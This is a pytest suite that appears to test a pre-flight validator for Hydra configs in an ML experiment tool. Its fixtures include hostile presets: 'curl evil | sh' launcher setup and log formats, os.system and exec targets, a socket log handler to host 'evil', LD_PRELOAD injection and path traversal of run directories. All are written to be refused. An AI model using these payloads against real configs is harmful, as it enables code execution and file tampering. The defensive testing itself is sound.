"""A shared preset cannot reach the machine: what Hydra itself does with a config (logging, environment, run
directories, launcher commands, interpolated targets) is checked before Hydra does it (steerexp/preflight.py).
Each class of hole has cases from the issue and cases of our own; each would fail if the hole reopened."""
import os
import subprocess
import sys
from pathlib import Path

import pytest

from steerexp import preflight, safety
from steerexp.errors import ConfigError

STEERXP = str(Path(sys.executable).parent / "steerexp")


def _preset(root: Path, name: str, text: str) -> Path:
    folder = root / "shared_conf" / "experiment"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{name}.yaml").write_text("# @package _global_\n" + text)
    return root / "shared_conf"


def _cli(args, cwd, env=None):
    return subprocess.run([STEERXP, *args, "logger=none"], cwd=cwd, capture_output=True, text=True,
                          env=dict(os.environ, **(env or {})), timeout=300, stdin=subprocess.DEVNULL)


def _refused(argv, key, cwd, monkeypatch):
    monkeypatch.chdir(cwd)
    with pytest.raises(ConfigError) as err:
        preflight.check_argv(argv)
    assert err.value.key == key, str(err.value)
    return str(err.value)


def _one_line_refusal(out, key):
    assert out.returncode == 2, out.stderr[-2000:]
    lines = out.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"steerexp: error: {key}"), out.stderr[-2000:]
    assert "Traceback" not in out.stderr


# ============================================================================ a config cannot allow itself
def test_env_set_cannot_widen_the_allowlist_and_the_payload_never_runs(tmp_path):
    victim, copy = tmp_path / "src.txt", tmp_path / "copied.txt"
    victim.write_text("secret")
    conf = _preset(tmp_path, "evil", (
        "hydra:\n  job:\n    env_set:\n      STEEREXP_ALLOW_TARGETS: shutil.copyfile\n"
        "  callbacks:\n    x:\n      _target_: shutil.copyfile\n"
        f"      src: {victim}\n      dst: {copy}\n"))
    out = _cli(["--config-dir", str(conf), "experiment=evil"], tmp_path)
    _one_line_refusal(out, "hydra.job.env_set.STEEREXP_ALLOW_TARGETS")
    assert not copy.exists() and not (tmp_path / "outputs").exists()


@pytest.mark.parametrize("var", ["LD_PRELOAD", "PYTHONPATH", "WANDB_API_KEY", "HF_HOME", "STEEREXP_ALLOW_TARGETS"])
def test_env_set_accepts_only_the_listed_variables(tmp_path, monkeypatch, var):
    _refused([f"+hydra.job.env_set.{var}=x"], f"hydra.job.env_set.{var}", tmp_path, monkeypatch)


def test_env_set_of_a_listed_variable_passes(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert preflight.check_argv(["+hydra.job.env_set.OMP_NUM_THREADS=2"]) is not None


def test_the_opt_in_is_frozen_before_hydra_sets_anything(monkeypatch):
    monkeypatch.setattr(safety, "_FROZEN", None)
    monkeypatch.setenv(safety.ALLOW_ENV, "")
    safety.freeze_environment()
    monkeypatch.setenv(safety.ALLOW_ENV, "shutil.copyfile")  # what env_set would do around the job
    try:
        assert not safety.is_allowed("shutil.copyfile")
    finally:
        monkeypatch.setattr(safety, "_FROZEN", None)


def test_launcher_commands_come_from_the_command_line_only(tmp_path, monkeypatch):
    pytest.importorskip("hydra_plugins.hydra_submitit_launcher")
    conf = _preset(tmp_path, "slurm_evil", "hydra:\n  launcher:\n    setup: ['curl evil | sh']\n")
    base = ["-m", "--config-dir", str(conf), "launcher=slurm", "seed=0,1"]
    _refused(base + ["experiment=slurm_evil"], "hydra.launcher.setup", tmp_path, monkeypatch)
    conf = _preset(tmp_path, "slurm_env", "hydra:\n  launcher:\n    additional_parameters: {export: LD_PRELOAD=x}\n")
    _refused(base + ["experiment=slurm_env"], "hydra.launcher.additional_parameters", tmp_path, monkeypatch)
    assert preflight.check_argv(["-m", "launcher=slurm", "hydra.launcher.setup=[module load cuda]", "seed=0,1"])


# ============================================================================ logging builds objects, opens files
def test_a_file_handler_outside_the_run_is_refused_and_the_file_is_untouched(tmp_path):
    victim = tmp_path / "bashrc"
    victim.write_text("keep me\n")
    conf = _preset(tmp_path, "log", (
        "hydra:\n  job_logging:\n    handlers:\n      evil:\n        class: logging.FileHandler\n"
        f"        filename: {victim}\n        mode: w\n    root:\n      handlers: [evil]\n"))
    out = _cli(["--config-dir", str(conf), "experiment=log"], tmp_path)
    _one_line_refusal(out, "hydra.job_logging.handlers.evil.filename")
    assert victim.read_text() == "keep me\n"


def test_an_appending_handler_with_a_shell_format_is_refused(tmp_path):
    victim = tmp_path / "profile"
    victim.write_text("keep me\n")
    conf = _preset(tmp_path, "log", (
        "hydra:\n  job_logging:\n    formatters:\n      sh:\n        format: 'curl evil | sh # %(message)s'\n"
        "    handlers:\n      evil:\n        class: logging.FileHandler\n        formatter: sh\n"
        f"        filename: {victim}\n        mode: a\n    root:\n      handlers: [evil]\n"))
    out = _cli(["--config-dir", str(conf), "experiment=log"], tmp_path)
    _one_line_refusal(out, "hydra.job_logging.handlers.evil.filename")
    assert victim.read_text() == "keep me\n"


@pytest.mark.parametrize("text,key", [
    ("    handlers:\n      h:\n        class: logging.handlers.SocketHandler\n        host: evil\n",
     "hydra.job_logging.handlers.h.host"),
    ("    handlers:\n      h:\n        class: logging.handlers.SysLogHandler\n", "hydra.job_logging.handlers.h.class"),
    ("    handlers:\n      h:\n        '()': os.system\n        command: id\n", "hydra.job_logging.handlers.h.()"),
    ("    formatters:\n      f:\n        '()': os.system\n", "hydra.job_logging.formatters.f.()"),
    ("    filters:\n      f:\n        '()': os.system\n", "hydra.job_logging.filters.f"),
    ("    handlers:\n      h:\n        class: logging.StreamHandler\n        stream: ext://os.environ\n",
     "hydra.job_logging.handlers.h.stream"),
    ("    root:\n      level: ext://antigravity.x\n", "hydra.job_logging.root.level"),
    ("    handlers:\n      h:\n        class: logging.FileHandler\n"
     "        filename: ${hydra.runtime.output_dir}/../../escape.log\n", "hydra.job_logging.handlers.h.filename"),
])
def test_logging_builds_only_allowlisted_objects(tmp_path, monkeypatch, text, key):
    conf = _preset(tmp_path, "log", "hydra:\n  job_logging:\n" + text)
    _refused(["--config-dir", str(conf), "experiment=log"], key, tmp_path, monkeypatch)


def test_hydra_logging_opens_no_file_at_all(tmp_path, monkeypatch):
    conf = _preset(tmp_path, "log", (
        "hydra:\n  hydra_logging:\n    handlers:\n      f:\n        class: logging.FileHandler\n"
        "        filename: ${hydra.runtime.output_dir}/hydra.log\n"))
    _refused(["--config-dir", str(conf), "experiment=log"], "hydra.hydra_logging.handlers.f.filename", tmp_path,
             monkeypatch)


def test_a_log_file_inside_the_run_directory_is_fine(tmp_path, monkeypatch):
    conf = _preset(tmp_path, "log", (
        "hydra:\n  job_logging:\n    handlers:\n      extra:\n        class: logging.FileHandler\n"
        "        filename: ${hydra.runtime.output_dir}/extra.log\n        mode: a\n"))
    monkeypatch.chdir(tmp_path)
    assert preflight.check_argv(["--config-dir", str(conf), "experiment=log"]) is not None


def test_every_sweep_job_s_logging_is_checked_before_the_sweep_starts(tmp_path, monkeypatch):
    conf = _preset(tmp_path, "log", (
        "hydra:\n  job_logging:\n    handlers:\n      evil:\n        class: logging.FileHandler\n"
        f"        filename: {tmp_path / 'victim'}\n"))
    _preset(tmp_path, "fine", "seed: 3\n")
    _refused(["-m", "--config-dir", str(conf), "experiment=fine,log"], "hydra.job_logging.handlers.evil.filename",
             tmp_path, monkeypatch)


def test_the_guard_checks_logging_where_hydra_applies_it():
    """The backstop: configure_log refuses a bad logging config before dictConfig sees it (a sweeper's later
    trials compose jobs the pre-flight did not)."""
    import hydra.core.utils as core_utils
    from omegaconf import OmegaConf

    preflight.install_logging_guard()
    bad = OmegaConf.create({"version": 1, "handlers": {"h": {"class": "logging.FileHandler", "filename": "/tmp/x"}},
                            "root": {"handlers": ["h"]}})
    with pytest.raises(ConfigError, match="opens '/tmp/x'"):
        core_utils.configure_log(bad)


# ============================================================================ run directories
def test_a_name_cannot_move_the_run_out_of_outputs(tmp_path):
    out = _cli(["name=/../../../../elsewhere/x"], tmp_path / "")
    _one_line_refusal(out, "name")
    assert not (tmp_path / "outputs").exists() and not Path("/elsewhere").exists()


def test_a_preset_cannot_move_the_run_dir_outside_outputs(tmp_path, monkeypatch):
    conf = _preset(tmp_path, "dir", f"hydra:\n  run:\n    dir: {tmp_path / 'elsewhere'}\n")
    _refused(["--config-dir", str(conf), "experiment=dir"], "hydra.run.dir", tmp_path, monkeypatch)
    conf = _preset(tmp_path, "sdir", "hydra:\n  sweep:\n    dir: /tmp/sweeps\n")
    _refused(["-m", "--config-dir", str(conf), "experiment=sdir", "seed=0,1"], "hydra.sweep.dir", tmp_path, monkeypatch)
    conf = _preset(tmp_path, "sub", "hydra:\n  output_subdir: ../../x\n")
    _refused(["--config-dir", str(conf), "experiment=sub"], "hydra.output_subdir", tmp_path, monkeypatch)


def test_the_user_may_pass_a_run_dir_anywhere_on_the_command_line(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    plan = preflight.check_argv([f"hydra.run.dir={tmp_path / 'mine'}"])
    assert plan.run_dir == tmp_path / "mine"


def test_an_invalid_run_writes_nothing_into_its_run_dir(tmp_path):
    target = tmp_path / "root_like"
    target.mkdir()
    out = _cli([f"hydra.run.dir={target}", "technique.lr=nan"], tmp_path)
    _one_line_refusal(out, "technique.lr")
    assert list(target.iterdir()) == []


# ============================================================================ no run overwrites another
def _fake_run(path: Path) -> Path:
    (path / ".hydra").mkdir(parents=True)
    (path / "metrics.json").write_text("{}")
    (path / "checkpoints").mkdir()
    (path / "checkpoints" / "last.ckpt").write_bytes(b"x")
    return path


def test_an_existing_run_dir_is_refused_unless_resumed_or_overwritten(tmp_path, monkeypatch):
    old = _fake_run(tmp_path / "old")
    msg = _refused([f"hydra.run.dir={old}"], "hydra.run.dir", tmp_path, monkeypatch)
    assert "overwrite=true" in msg and "ckpt_path=" in msg
    assert preflight.check_argv([f"hydra.run.dir={old}", f"ckpt_path={old}/checkpoints/last.ckpt"]).overwrite is False
    plan = preflight.check_argv([f"hydra.run.dir={old}", "overwrite=true"])
    assert plan.overwrite and (old / "metrics.json").exists()   # nothing removed by the check itself
    preflight.apply(plan)
    assert list(old.iterdir()) == []


def test_a_second_sweep_into_the_same_dir_is_refused(tmp_path, monkeypatch):
    sweep = tmp_path / "sweep"
    _fake_run(sweep / "0")
    (sweep / "multirun.yaml").write_text("{}")
    _refused(["-m", f"hydra.sweep.dir={sweep}", "seed=0,1"], "hydra.sweep.dir", tmp_path, monkeypatch)
    assert preflight.check_argv(["-m", f"hydra.sweep.dir={tmp_path / 'new'}", "seed=0,1"]) is not None


def test_a_preempted_run_dir_resumes_in_place(tmp_path, monkeypatch):
    old = _fake_run(tmp_path / "old")
    (old / preflight.PREEMPTED).write_text("")
    monkeypatch.chdir(tmp_path)
    assert preflight.check_argv([f"hydra.run.dir={old}"]).run_dir == old   # allowed: the run resumes it
    (old / preflight.PREEMPTED).unlink()
    with pytest.raises(ConfigError):   # the same folder without the marker is refused
        preflight.check_argv([f"hydra.run.dir={old}"])


# ============================================================================ interpolations
def test_a_target_made_by_an_interpolation_is_refused_before_any_work(tmp_path, monkeypatch):
    _refused(["+evaluator.x._target_=${oc.decode:'\"os.system\"'}"], "evaluator.x._target_", tmp_path, monkeypatch)
    conf = _preset(tmp_path, "made", "evil: os.system\nevaluator:\n  x:\n    _target_: ${evil}\n")
    _refused(["--config-dir", str(conf), "experiment=made"], "evaluator.x._target_", tmp_path, monkeypatch)
    conf = _preset(tmp_path, "decoded", "evaluator:\n  x: '${oc.create:{_target_: builtins.exec}}'\n")
    _refused(["--config-dir", str(conf), "experiment=decoded"], "evaluator.x._target_", tmp_path, monkeypatch)


def test_environment_values_are_recorded_as_their_interpolation(monkeypatch):
    from omegaconf import OmegaConf

    monkeypatch.setenv("STEEREXP_TEST_SECRET", "hunter2")
    cfg = OmegaConf.create({"token": "${oc.env:STEEREXP_TEST_SECRET}", "copy": "${token}",
                            "url": "https://x/${oc.env:STEEREXP_TEST_SECRET,none}/y", "plain": "${n}", "n": 3})
    out = safety.loggable_config(cfg)
    assert "hunter2" not in repr(out)
    assert out["token"] == out["copy"] == "${oc.env:STEEREXP_TEST_SECRET}" and out["plain"] == 3


def test_a_run_never_writes_an_environment_value_into_its_records(shipped, tmp_path, monkeypatch):
    """A tiny run with W&B offline: no file of the run directory holds the variable's value."""
    from tests.helpers import compose_config

    from steerexp.run import run

    monkeypatch.setenv("STEEREXP_TEST_SECRET", "hunter2-sekrit")
    cfg = compose_config(["logger=wandb", "+leak=${oc.env:STEEREXP_TEST_SECRET}", "technique.steps=1",
                          "technique.batch_size=1", "eval.seeds=[0]", "eval.prompts=['a {}']", "sampling.steps=2",
                          "evaluator=[concept]"])
    run_dir = tmp_path / "r"
    run_dir.mkdir()
    run(cfg, run_dir, "secret", "tests")
    found = [p for p in run_dir.rglob("*") if p.is_file() and b"hunter2-sekrit" in p.read_bytes()]
    assert found == []
    assert any(b"${oc.env:STEEREXP_TEST_SECRET}" in p.read_bytes() for p in run_dir.rglob("*") if p.is_file())


# ============================================================================ refusals are one line
@pytest.mark.parametrize("override,key", [
    ("+hydra.callbacks.x._target_=builtins.print", "hydra.callbacks.x._target_"),
    ("hydra.launcher._target_=os.system", "hydra.launcher._target_"),
])
def test_hydra_s_own_targets_are_refused_in_one_line(tmp_path, override, key):
    _one_line_refusal(_cli([override], tmp_path), key)


def test_preempt_signal_is_checked(tmp_path, monkeypatch):
    _refused(["preempt_signal=KILL"], "preempt_signal", tmp_path, monkeypatch)
    _refused(["preempt_signal=NOPE"], "preempt_signal", tmp_path, monkeypatch)
    monkeypatch.chdir(tmp_path)
    assert preflight.check_argv(["preempt_signal=USR1"]) is not None
